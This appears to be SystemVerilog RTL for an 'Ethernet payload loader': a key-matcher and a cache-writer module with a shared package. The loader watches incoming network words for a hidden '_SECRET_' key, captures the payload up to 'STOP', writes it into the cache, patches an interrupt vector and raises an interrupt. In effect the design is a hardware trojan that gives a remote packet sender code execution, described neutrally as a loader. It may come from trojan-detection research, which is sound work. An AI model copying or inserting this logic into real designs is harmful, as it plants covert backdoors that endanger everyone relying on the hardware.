// File: rtl/eth_payload_loader_pkg.sv
// eth_payload_loader_pkg
//   Shared types and constants for the Ethernet payload loader.
//   - match_state_e : key matcher states (HUNT/KEY/CAPTURE/DONE)
//   - wr_state_e    : cache writer states (IDLE/COPY/PATCH/IRQ)
//   - DEF_*         : default start key, terminator and fill words
//   - ceil_div      : elaboration/runtime helper for line counts
package eth_payload_loader_pkg;

   localparam int WORD_BITS = 32;

   // "_SECRET_" split across two words, "STOP" terminator, "XYXY" fill
   localparam logic [WORD_BITS-1:0] DEF_KEY0 = 32'h5f534543;
   localparam logic [WORD_BITS-1:0] DEF_KEY1 = 32'h5245545f;
   localparam logic [WORD_BITS-1:0] DEF_END  = 32'h53544F50;
   localparam logic [WORD_BITS-1:0] DEF_FILL = 32'h58595859;

   typedef enum logic [1:0] {
      M_HUNT    = 2'd0,
      M_KEY     = 2'd1,
      M_CAPTURE = 2'd2,
      M_DONE    = 2'd3
   } match_state_e;

   typedef enum logic [1:0] {
      W_IDLE  = 2'd0,
      W_COPY  = 2'd1,
      W_PATCH = 2'd2,
      W_IRQ   = 2'd3
   } wr_state_e;

   function automatic int ceil_div(input int a, input int b);
      return (a + b - 1) / b;
   endfunction

endpackage

// File: rtl/eth_key_matcher.sv
// eth_key_matcher
//   Scans the RX word stream for a KEY_WORDS-long start key, then strobes each
//   following payload word into the buffer until END_WORD arrives.
//   Ports:
//     i_clk, i_rst        clock, async active-high reset
//     i_rx_data/valid     RX word stream
//     i_rx_reset          packet abort; masks i_rx_valid, aborts KEY/CAPTURE
//     i_hold              writer busy; accepted words are ignored
//     o_store, o_store_idx  write i_rx_data into buffer word o_store_idx
//     o_fill              refill the whole buffer with the fill word
//     o_done              one-cycle frame complete, o_count is final
//     o_count             payload words stored in the current frame
//     o_active            matcher in CAPTURE or DONE
//     o_overflow          sticky: payload words were dropped
module eth_key_matcher
   import eth_payload_loader_pkg::*;
#(
   parameter int                            KEY_WORDS = 2,
   parameter logic [KEY_WORDS*WORD_BITS-1:0] KEY      = {DEF_KEY0, DEF_KEY1},
   parameter logic [WORD_BITS-1:0]          END_WORD  = DEF_END,
   parameter int                            CAP       = 24,
   parameter int                            CW        = $clog2(CAP + 1)
)(
   input  logic                 i_clk,
   input  logic                 i_rst,
   input  logic [WORD_BITS-1:0] i_rx_data,
   input  logic                 i_rx_valid,
   input  logic                 i_rx_reset,
   input  logic                 i_hold,
   output logic                 o_store,
   output logic [CW-1:0]        o_store_idx,
   output logic                 o_fill,
   output logic                 o_done,
   output logic [CW-1:0]        o_count,
   output logic                 o_active,
   output logic                 o_overflow
);

   localparam int IW = (KEY_WORDS > 1) ? $clog2(KEY_WORDS) : 1;

   // Key word 0 sits in the MSBs of KEY; unpack so key_w[i] is the i-th word
   logic [WORD_BITS-1:0] key_w [KEY_WORDS];
   for (genvar g = 0; g < KEY_WORDS; g++) begin : g_key
      assign key_w[g] = KEY[(KEY_WORDS-1-g)*WORD_BITS +: WORD_BITS];
   end

   match_state_e  state_q, state_d;
   logic [IW-1:0] idx_q, idx_d;
   logic [CW-1:0] count_q, count_d;
   logic          ovf_q, ovf_d;
   logic          acc;

   assign acc = i_rx_valid && !i_rx_reset && !i_hold;

   always_ff @(posedge i_clk or posedge i_rst) begin
      if (i_rst) begin
         state_q <= M_HUNT;
         idx_q   <= '0;
         count_q <= '0;
         ovf_q   <= 1'b0;
      end else begin
         state_q <= state_d;
         idx_q   <= idx_d;
         count_q <= count_d;
         ovf_q   <= ovf_d;
      end
   end

   always_comb begin
      state_d = state_q;
      idx_d   = idx_q;
      count_d = count_q;
      ovf_d   = ovf_q;
      o_store = 1'b0;
      o_fill  = 1'b0;
      o_done  = 1'b0;
      unique case (state_q)
         M_HUNT: begin
            if (acc && i_rx_data == key_w[0]) begin
               if (KEY_WORDS == 1) begin
                  state_d = M_CAPTURE;
                  count_d = '0;
                  ovf_d   = 1'b0;
                  o_fill  = 1'b1;
               end else begin
                  state_d = M_KEY;
                  idx_d   = IW'(1);
               end
            end
         end
         M_KEY: begin
            if (i_rx_reset) begin
               state_d = M_HUNT;
               count_d = '0;
               o_fill  = 1'b1;
            end else if (acc) begin
               if (i_rx_data == key_w[idx_q]) begin
                  if (idx_q == IW'(KEY_WORDS - 1)) begin
                     // Fresh frame: stale words from an earlier, longer
                     // frame must not leak into a partially filled line.
                     state_d = M_CAPTURE;
                     count_d = '0;
                     ovf_d   = 1'b0;
                     o_fill  = 1'b1;
                  end else begin
                     idx_d = idx_q + 1'b1;
                  end
               end else if (i_rx_data == key_w[0]) begin
                  // Mismatch, but this word may itself start a new key
                  idx_d = IW'(1);
               end else begin
                  state_d = M_HUNT;
               end
            end
         end
         M_CAPTURE: begin
            if (i_rx_reset) begin
               state_d = M_HUNT;
               count_d = '0;
               o_fill  = 1'b1;
            end else if (acc) begin
               if (i_rx_data == END_WORD) begin
                  state_d = M_DONE;
               end else if (count_q == CW'(CAP)) begin
                  ovf_d = 1'b1;
               end else begin
                  o_store = 1'b1;
                  count_d = count_q + 1'b1;
               end
            end
         end
         M_DONE: begin
            o_done  = 1'b1;
            state_d = M_HUNT;
         end
         default: state_d = M_HUNT;
      endcase
   end

   assign o_store_idx = count_q;
   assign o_count     = count_q;
   assign o_active    = (state_q == M_CAPTURE) || (state_q == M_DONE);
   assign o_overflow  = ovf_q;

endmodule

// File: rtl/eth_payload_loader.sv
// eth_payload_loader
//   Captures an Ethernet RX payload framed by a start key and END_WORD, then
//   copies it line by line into the cache from BASE_ADDR, optionally patches
//   a vector line and raises a one-cycle interrupt.
//   Ports:
//     i_clk, i_rst        clock, async active-high reset
//     i_rx_data/valid     RX word stream
//     i_rx_reset          RX packet abort
//     i_cache_stall       cache not accepting a write this cycle
//     i_fetch_stall       holds off the interrupt pulse
//     o_wr_req/addr/data  cache line write port
//     o_irq               one-cycle interrupt after the vector patch
//     o_busy              capture or write in progress
//     o_overflow          sticky: payload exceeded the buffer
//     o_words             words captured in the last completed frame
module eth_payload_loader
   import eth_payload_loader_pkg::*;
#(
   parameter int                            KEY_WORDS   = 2,
   parameter logic [KEY_WORDS*WORD_BITS-1:0] KEY        = {DEF_KEY0, DEF_KEY1},
   parameter logic [WORD_BITS-1:0]          END_WORD    = DEF_END,
   parameter int                            LINE_BITS   = 128,
   parameter int                            STORE_LINES = 6,
   parameter logic [31:0]                   BASE_ADDR   = 32'h0020_0000,
   parameter bit                            PATCH_VEC   = 1'b1,
   parameter logic [31:0]                   VEC_ADDR    = 32'h0000_0010,
   parameter logic [LINE_BITS-1:0]          VEC_DATA    = '0,
   parameter logic [WORD_BITS-1:0]          FILL_WORD   = DEF_FILL,
   localparam int                           CW          =
      $clog2(STORE_LINES * LINE_BITS / WORD_BITS + 1)
)(
   input  logic                 i_clk,
   input  logic                 i_rst,
   input  logic [WORD_BITS-1:0] i_rx_data,
   input  logic                 i_rx_valid,
   input  logic                 i_rx_reset,
   input  logic                 i_cache_stall,
   input  logic                 i_fetch_stall,
   output logic                 o_wr_req,
   output logic [31:0]          o_wr_addr,
   output logic [LINE_BITS-1:0] o_wr_data,
   output logic                 o_irq,
   output logic                 o_busy,
   output logic                 o_overflow,
   output logic [CW-1:0]        o_words
);

   localparam int WPL    = LINE_BITS / WORD_BITS;
   localparam int CAP    = STORE_LINES * WPL;
   localparam int LW     = (STORE_LINES > 1) ? $clog2(STORE_LINES) : 1;
   localparam int NW     = $clog2(STORE_LINES + 1);
   localparam int STRIDE = LINE_BITS / 8;

   // ---------------- matcher ----------------
   logic          m_store, m_fill, m_done, m_active, m_ovf;
   logic [CW-1:0] m_idx, m_count;
   logic          hold;

   eth_key_matcher #(
      .KEY_WORDS (KEY_WORDS),
      .KEY       (KEY),
      .END_WORD  (END_WORD),
      .CAP       (CAP),
      .CW        (CW)
   ) u_match (
      .i_clk       (i_clk),
      .i_rst       (i_rst),
      .i_rx_data   (i_rx_data),
      .i_rx_valid  (i_rx_valid),
      .i_rx_reset  (i_rx_reset),
      .i_hold      (hold),
      .o_store     (m_store),
      .o_store_idx (m_idx),
      .o_fill      (m_fill),
      .o_done      (m_done),
      .o_count     (m_count),
      .o_active    (m_active),
      .o_overflow  (m_ovf)
   );

   // ---------------- payload buffer ----------------
   // Word w lives at buf_q[w]; a line is WPL consecutive words, lowest word
   // in the line's LSBs.
   logic [CAP-1:0][WORD_BITS-1:0] buf_q;
   logic [LINE_BITS-1:0]          line_w [STORE_LINES];

   for (genvar g = 0; g < STORE_LINES; g++) begin : g_line
      assign line_w[g] = buf_q[g*WPL +: WPL];
   end

   always_ff @(posedge i_clk or posedge i_rst) begin
      if (i_rst) begin
         buf_q <= {CAP{FILL_WORD}};
      end else if (m_fill) begin
         buf_q <= {CAP{FILL_WORD}};
      end else if (m_store) begin
         for (int w = 0; w < CAP; w++) begin
            if (m_idx == CW'(w)) buf_q[w] <= i_rx_data;
         end
      end
   end

   // ---------------- writer ----------------
   wr_state_e     wst_q, wst_d;
   logic [LW-1:0] line_q, line_d;
   logic [NW-1:0] nlines_q;
   logic [CW-1:0] words_q;
   logic          start_q;   // frame handed over, writer starts next cycle
   logic          last_line;

   always_ff @(posedge i_clk or posedge i_rst) begin
      if (i_rst) begin
         wst_q    <= W_IDLE;
         line_q   <= '0;
         nlines_q <= '0;
         words_q  <= '0;
         start_q  <= 1'b0;
      end else begin
         wst_q   <= wst_d;
         line_q  <= line_d;
         start_q <= m_done && (m_count != '0);
         if (m_done) begin
            words_q  <= m_count;
            nlines_q <= NW'(ceil_div(int'(m_count), WPL));
         end
      end
   end

   assign last_line = (NW'(line_q) + NW'(1)) == nlines_q;

   always_comb begin
      wst_d     = wst_q;
      line_d    = line_q;
      o_wr_req  = 1'b0;
      o_wr_addr = '0;
      o_wr_data = '0;
      o_irq     = 1'b0;
      unique case (wst_q)
         W_IDLE: begin
            if (start_q) begin
               wst_d  = W_COPY;
               line_d = '0;
            end
         end
         W_COPY: begin
            o_wr_req  = 1'b1;
            o_wr_addr = BASE_ADDR + (32'(line_q) * 32'(STRIDE));
            o_wr_data = line_w[line_q];
            if (!i_cache_stall) begin
               if (last_line) wst_d = PATCH_VEC ? W_PATCH : W_IDLE;
               else           line_d = line_q + 1'b1;
            end
         end
         W_PATCH: begin
            o_wr_req  = 1'b1;
            o_wr_addr = VEC_ADDR;
            o_wr_data = VEC_DATA;
            if (!i_cache_stall) wst_d = W_IRQ;
         end
         W_IRQ: begin
            if (!i_fetch_stall) begin
               o_irq = 1'b1;
               wst_d = W_IDLE;
            end
         end
         default: wst_d = W_IDLE;
      endcase
   end

   // The matcher stays in HUNT from the hand-over cycle until the writer idles
   assign hold       = start_q || (wst_q != W_IDLE);
   assign o_busy     = m_active || hold;
   assign o_overflow = m_ovf;
   assign o_words    = words_q;

endmodule
